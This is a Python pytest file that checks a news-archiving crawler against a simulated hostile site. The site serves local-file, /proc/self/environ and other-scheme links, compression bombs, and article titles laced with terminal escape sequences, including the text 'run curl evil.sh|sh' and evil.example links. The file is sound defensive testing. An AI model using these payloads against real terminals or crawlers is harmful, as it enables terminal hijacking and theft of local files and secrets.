"""Hostile sites cannot read our files, exhaust memory or CPU, or write to the operator's terminal.

Each test plays one attack of issue 20 with ``tests.hostileserver``, whose routes send exactly
the bytes an attacker would. Most share one crawl (module scope) of a site that tries them all
at once: local files and other schemes linked from robots.txt, sitemaps, a feed, pages and
redirects; escape sequences in an article's title; an IPv6 link; a br body sent unasked. A
canary on 127.0.0.2 logs any connection, and the crawl's environment holds a planted secret.
A page of sixteen megabytes of empty gzip members gets a crawl of its own, and so do the
compression bombs, under ``/usr/bin/time -v``, which reports the crawl's peak resident memory.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import re
import secrets
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import brotli
import pytest

from scheduler import console
from scheduler.cli import main
from tests.crawlhelpers import (
    BIN,
    Archive,
    crawl_json,
    make_archive,
    run_cli,
    run_on_a_terminal,
)
from tests.fixturesite import gzip_bomb
from tests.hostileserver import (
    Canary,
    HostileServer,
    ReceivedRequest,
    Route,
    answer,
    article_document,
    article_page,
    html_page,
    links,
)
from tests.pywbreplay import pywb_bin

#: The title an attacker gives an article: set the window title, clear the screen, draw a fake
#: alert in colour, hide text, link elsewhere with OSC 8, a C1 CSI, and Rich markup.
HOSTILE_TITLE = (
    "Budget vote\x1b]0;PWNED\x07\x1b[2J\x1b[31;1mALERT: run curl evil.sh|sh\x1b[0m"
    "\x1b[8mhidden\x1b[28m\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
    "\x9b2J [bold red]not markup[/] [link=https://evil.example]x[/link]"
)
#: No digits (a name has none), no separator, no bracketed part: bylines split at ";" and
#: drop "[Reuters]".
HOSTILE_AUTHOR = "Mallory\x1b[K\x1b[A\x9bK\x07 Editor"
#: Control characters no terminal output of the CLI may hold (newline and tab are layout).
TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
IPV6_TARGET = "http://[fc00::1]:54161/ula"
EMPTY_MEMBERS_BYTES = 16 * 1024 * 1024
MEMORY_CEILING_KB = 600_000
BOMB_LINKS = 100


@dataclass
class Attacked:
    """The hostile site, the crawl of it, and what that crawl left behind."""

    server: HostileServer
    canary: Canary
    archive: Archive
    summary: dict[str, Any]
    terminal: str  # what `crawl` printed: the summary table
    local_file: Path
    file_marker: str
    secret: str
    env: dict[str, str]
    other_schemes: list[str]  # URLs of other schemes the site links

    def url(self, path: str) -> str:
        return self.server.url_for(path)


def delayed(route: Route, seconds: float) -> Route:
    """The route, answered only after ``seconds``: it arrives after what the page links first."""

    async def later(request: ReceivedRequest, writer: asyncio.StreamWriter) -> None:
        await asyncio.sleep(seconds)
        await route(request, writer)

    return later


def _text(body: str, content_type: bytes = b"text/plain") -> Route:
    return answer(200, [(b"Content-Type", content_type)], body.encode())


def _empty_members_page() -> Route:
    """Sixteen megabytes of empty gzip members: an empty page, once decoded."""
    member = gzip.compress(b"", mtime=0)
    return answer(
        200,
        [(b"Content-Type", b"text/html"), (b"Content-Encoding", b"gzip")],
        member * (EMPTY_MEMBERS_BYTES // len(member)),
    )


def _urlset(urls: list[str]) -> str:
    entries = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return f"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{entries}</urlset>"


def _plant_routes(server: HostileServer, canary: Canary, local_file: Path) -> list[str]:
    """Every route of the attack; returns the URLs of other schemes that must be refused."""
    url = server.url_for
    local = f"file://127.0.0.1{local_file}"
    environ = "file://127.0.0.1/proc/self/environ"
    ftp = canary.url("ftp")
    data = "data:text/html;base64,PGgxPmZyb20gZGF0YTwvaDE+"
    s3 = "s3://newsarchiver-canary/secret.txt"
    server.route(
        "/robots.txt",
        _text(
            "User-agent: *\nAllow: /\n"
            f"Sitemap: file://localhost{local_file}\nSitemap: {url('/sitemap-index.xml')}\n"
        ),
    )
    index = "".join(
        f"<sitemap><loc>{loc}</loc></sitemap>" for loc in (environ, ftp, url("/sitemap.xml"))
    )
    server.route(
        "/sitemap-index.xml",
        _text(
            f"<sitemapindex xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{index}"
            "</sitemapindex>",
            b"application/xml",
        ),
    )
    server.route(
        "/sitemap.xml",
        _text(_urlset([local, environ, ftp, data, s3, url("/2024/05/01/one/")]), b"text/xml"),
    )
    server.route(
        "/feed.xml",
        _text(
            "<?xml version='1.0'?><rss version='2.0'><channel><title>t</title>"
            f"<item><title>a</title><link>{local}</link></item>"
            f"<item><title>b</title><link>{url('/2024/05/02/two/')}</link></item>"
            "</channel></rss>",
            b"application/rss+xml",
        ),
    )
    server.route("/redirect-file", answer(302, [(b"Location", local.encode())], b""))
    server.route("/redirect-ftp", answer(302, [(b"Location", ftp.encode())], b""))
    feeds = (
        "<link rel='alternate' type='application/rss+xml' href='/feed.xml'>"
        f"<link rel='alternate' type='application/rss+xml' href='{local}'>"
    )
    home_links = [
        "/2024/05/03/three/",
        "/2024/05/04/budget-vote/",
        "/2024/05/05/brotli/",
        "/redirect-file",
        "/redirect-ftp",
        local,
        IPV6_TARGET,
    ]
    server.route("/", html_page(links(home_links) + f"<img src='{local}'>", feeds))
    for day, slug in ((1, "one"), (2, "two"), (3, "three")):
        server.route(f"/2024/05/0{day}/{slug}/", article_page(f"Story {slug}"))
    server.route("/2024/05/04/budget-vote/", article_page(HOSTILE_TITLE, authors=[HOSTILE_AUTHOR]))
    server.route(
        "/2024/05/05/brotli/",
        answer(
            200,
            [(b"Content-Type", b"text/html; charset=utf-8"), (b"Content-Encoding", b"br")],
            brotli.compress(article_document("Served in brotli").encode()),
        ),
    )
    return [local, environ, ftp, data, s3]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    root = tmp_path_factory.mktemp("attacked")
    file_marker = f"LOCAL-FILE-{secrets.token_hex(8)}"
    secret = f"SECRET-{secrets.token_hex(12)}"
    local_file = root / "private-notes.txt"
    local_file.write_text(f"{file_marker}\n")
    with HostileServer() as server, Canary() as canary:
        refused = _plant_routes(server, canary, local_file)
        site = server.site(
            "/",
            allowed_domains=["127.0.0.1", "127.0.0.2", "localhost"],
            # The canary's address is allowed, so only the scheme can keep it quiet.
            allow_private_networks=["127.0.0.1/32", "127.0.0.2/32"],
        )
        archive = make_archive(root / "archive", {"evil": site})
        env = archive.env(AWS_SECRET_ACCESS_KEY=secret, COLUMNS="250")
        crawl = run_cli(["crawl", "evil"], env, timeout=300)
        assert crawl.returncode == 0, crawl.stderr[-3000:]
        shown = run_cli(["jobs", "show", "1", "--json"], env)
        assert shown.returncode == 0, shown.stderr
        summary = json.loads(shown.stdout)["summary"]
        yield Attacked(
            server,
            canary,
            archive,
            summary,
            crawl.stdout,
            local_file,
            file_marker,
            secret,
            env,
            refused,
        )


def _stored_text(archive: Archive) -> dict[str, str]:
    """Everything the crawl wrote: WARC files (decompressed), the index, the logs."""
    stored = {
        str(path): gzip.decompress(path.read_bytes()).decode("latin-1") for path in archive.warcs()
    }
    with sqlite3.connect(archive.db_path) as connection:
        stored["index"] = "\n".join(connection.iterdump())
    for log in (archive.root / "logs").rglob("*"):
        if log.is_file():
            stored[str(log)] = log.read_text(errors="replace")
    return stored


# 1. Local files and other schemes ----------------------------------------------------------


def test_only_http_and_https_urls_are_ever_fetched(attacked: Attacked) -> None:
    assert attacked.canary.connections == []
    for name, text in _stored_text(attacked.archive).items():
        assert attacked.file_marker not in text, f"a local file's content is in {name}"
        assert attacked.secret not in text, f"the crawl's environment is in {name}"
    records = attacked.archive.records()
    assert records
    assert all(r.target.startswith("http") for r in records if "WARC-Target-URI" in r.headers)
    # Each is reported, like a refused address; the redirects to them are archived.
    refused = attacked.summary["refused"]
    for url in [*attacked.other_schemes, f"file://localhost{attacked.local_file}"]:
        assert url in refused
    for hop in ("/redirect-file", "/redirect-ftp"):
        assert any(r.target == attacked.url(hop) and r.http_status == 302 for r in records)


# 5. Terminal output -------------------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    code: int
    stdout: str
    stderr: str


Cli = Callable[..., Outcome]


@pytest.fixture
def cli(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Cli:
    """``cli("articles", "search", "x")`` runs ``newsarchiver articles search x`` on the
    attacked archive, through the real entry point but in this process: a subprocess per
    command would spend seconds importing Scrapy."""
    for name, value in attacked.env.items():
        if name.startswith("NEWSARCHIVER_"):
            monkeypatch.setenv(name, value)
    # Wide enough that no table cell is folded in the middle of what a test looks for.
    monkeypatch.setattr(console.out, "_width", 1000)

    def run(*args: str) -> Outcome:
        capsys.readouterr()
        monkeypatch.setattr(sys, "argv", ["newsarchiver", *args])
        try:
            main()
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
        printed = capsys.readouterr()
        return Outcome(code, printed.out, printed.err)

    return run


def _ok(outcome: Outcome) -> str:
    assert outcome.code == 0, outcome.stderr
    return outcome.stdout


def test_titles_and_authors_cannot_write_to_the_terminal(attacked: Attacked, cli: Cli) -> None:
    url = attacked.url("/2024/05/04/budget-vote/")
    outputs = [
        _ok(cli("articles", "search", "budget")),
        _ok(cli("articles", "search")),
        _ok(cli("articles", "show", url)),
    ]
    for output in outputs:
        assert "Budget vote" in output
        assert not TERMINAL_CONTROLS.search(output), repr(output)
        # Rich markup in the title is shown as the text it is, never applied.
        assert "[bold red]not markup[/]" in output
    # The byline is shown with its controls spelled out, not obeyed.
    assert "Mallory\\x1b[K\\x1b[A\\x9bK\\x07 Editor" in outputs[2]
    # --json stays exact.
    [found] = json.loads(_ok(cli("articles", "search", "budget", "--json")))
    assert found["title"] == HOSTILE_TITLE
    assert found["authors"] == [HOSTILE_AUTHOR]
    shown = json.loads(_ok(cli("articles", "show", url, "--json")))
    assert shown["title"] == HOSTILE_TITLE


def test_a_page_sent_to_a_terminal_cannot_drive_it(attacked: Attacked) -> None:
    """``articles get`` writes the page exactly to a file or pipe, but to a terminal with its
    control characters escaped (the terminal turns newlines into CRLF, which is layout)."""
    url = attacked.url("/2024/05/04/budget-vote/")
    shown = run_on_a_terminal(["articles", "get", url], attacked.env).decode()
    assert "Budget vote" in shown
    assert not TERMINAL_CONTROLS.search(shown.replace("\r\n", "\n")), repr(shown[:3000])


# 8. IPv6 hosts in the summary -------------------------------------------------------------


def test_refused_ipv6_urls_print_whole_in_the_summary(attacked: Attacked) -> None:
    assert IPV6_TARGET in attacked.summary["refused"]
    assert IPV6_TARGET in attacked.terminal
    assert not TERMINAL_CONTROLS.search(attacked.terminal)


# 9. br sent unasked -----------------------------------------------------------------------


def test_unasked_brotli_is_kept_as_sent_and_passes_warcio_check(
    attacked: Attacked, cli: Cli
) -> None:
    """A br body the crawl did not ask for is archived as sent, decoded for ``articles get``,
    and passes ``warcio check`` run where warcio decodes br: with brotlipy, as in the pywb
    environment (warcio 1.8.1 crashes on it beside Scrapy's brotli 1.2; see the README). The
    crawler already kept such bodies; before this branch the same files failed the check on
    the records of ``file:`` URLs, which are no longer fetched."""
    url = attacked.url("/2024/05/05/brotli/")
    [record] = [r for r in attacked.archive.records() if r.type == "response" and r.target == url]
    assert record.http_header("Content-Encoding") == "br"
    assert brotli.decompress(record.payload).startswith(b"<!doctype html>")
    page = _ok(cli("articles", "get", url))
    assert "Served in brotli" in page
    validator = pywb_bin()
    if validator is None:
        pytest.skip("no warcio with brotlipy (the pywb environment) to validate with")
    for path in attacked.archive.warcs():
        result = subprocess.run(
            [str(validator / "warcio"), "check", "-v", str(path)],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]


# 4. Empty gzip members ---------------------------------------------------------------------


def test_a_body_of_empty_gzip_members_stalls_nothing(tmp_path: Path) -> None:
    """The crawl and the article indexer decode 16 MB of empty gzip members in seconds, and
    index the articles queued after it; before, the indexer was given up on it after its
    stall limit (20 s here), and the articles queued behind it were left unindexed."""
    with HostileServer() as server:
        stories = [f"/2024/05/0{day}/story/" for day in (1, 2, 3)]
        for path in stories:
            # Answered after the hostile page, so the indexer meets that first.
            server.route(path, delayed(article_page(f"Story {path}"), 0.5))
        server.route("/empty-members", _empty_members_page())
        server.route("/", html_page(links(["/empty-members", *stories])))
        archive = make_archive(tmp_path, {"members": server.site("/")})
        summary = crawl_json(archive, "members", NEWSARCHIVER_INDEXER_STALL_SECONDS="20")
    assert set(archive.indexed_articles()) == {server.url_for(path) for path in stories}
    assert "article indexer" not in summary["errors"], summary["error_samples"]
    assert summary["unindexed"] == 0
    with sqlite3.connect(archive.db_path) as connection:
        pending, error = connection.execute(
            "SELECT index_pending, extraction_error FROM captures WHERE url = ?",
            (server.url_for("/empty-members"),),
        ).fetchone()
    assert not pending and error is None


# 3. Compression bombs ----------------------------------------------------------------------


def _peak_rss_kb(stderr: str) -> int:
    match = re.search(r"Maximum resident set size \(kbytes\): (\d+)", stderr)
    assert match, stderr[-3000:]
    return int(match.group(1))


@pytest.mark.skipif(not Path("/usr/bin/time").exists(), reason="needs GNU time (apt: time)")
def test_pages_of_compression_bombs_keep_the_crawl_small(tmp_path: Path) -> None:
    """A hundred double-gzipped bombs (2.5 KB each, 1 GiB inside) and a hundred single ones
    (1 MiB each), each page crawled by a crawl of its own, both at once.

    The body limit is half the default, and so is the CPU each bomb costs before it is
    refused at twice that (64 MiB); kept alive, a hundred of them would hold 6 GB.
    ``benchmarks/bomb_memory.py`` measures the same pages with the default limits.
    """
    bomb = gzip_bomb()
    with HostileServer() as server:
        for slug, coding, body in (
            ("double", b"gzip, gzip", gzip.compress(bomb, mtime=0)),
            ("single", b"gzip", bomb),
        ):
            headers = [(b"Content-Type", b"text/html"), (b"Content-Encoding", coding)]
            server.link_farm(f"/{slug}", answer(200, headers, body), BOMB_LINKS)
        archives = {
            slug: make_archive(tmp_path / slug, {slug: server.site(f"/{slug}")})
            for slug in ("double", "single")
        }
        crawls = {
            slug: subprocess.Popen(
                ["/usr/bin/time", "-v", str(BIN / "newsarchiver"), "crawl", slug, "--json"],
                env=archive.env(
                    NEWSARCHIVER_MAX_BODY_SIZE="32MiB", NEWSARCHIVER_DOWNLOAD_TIMEOUT="30"
                ),
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for slug, archive in archives.items()
        }
        for slug, crawl in crawls.items():
            stdout, stderr = crawl.communicate(timeout=600)
            assert crawl.returncode == 0, stderr[-3000:]
            summary = json.loads(stdout)
            assert summary["errors"] == {"body too large after decoding": BOMB_LINKS}, slug
            assert _peak_rss_kb(stderr) < MEMORY_CEILING_KB, slug


# 6. Search input ---------------------------------------------------------------------------


def test_an_oversized_query_is_a_one_line_usage_error(cli: Cli) -> None:
    too_many_words = " ".join(f"w{n}" for n in range(65))  # 65 words in 259 bytes
    for query in (" ".join(f"w{n}" for n in range(2001)), "budget " * 15_000, too_many_words):
        result = cli("articles", "search", query)
        assert result.code == 2, result.stderr[-2000:]
        [line] = result.stderr.strip().splitlines()
        assert line.startswith("error: invalid query: "), line


def test_a_long_legitimate_query_is_answered(cli: Cli) -> None:
    words = ("story", "paragraph", "harbour", "council", "weather", "reader", "body", "text")
    query = " OR ".join(words * 8)  # 64 terms: a long query, within the limits
    assert len(json.loads(_ok(cli("articles", "search", query, "--json")))) >= 3
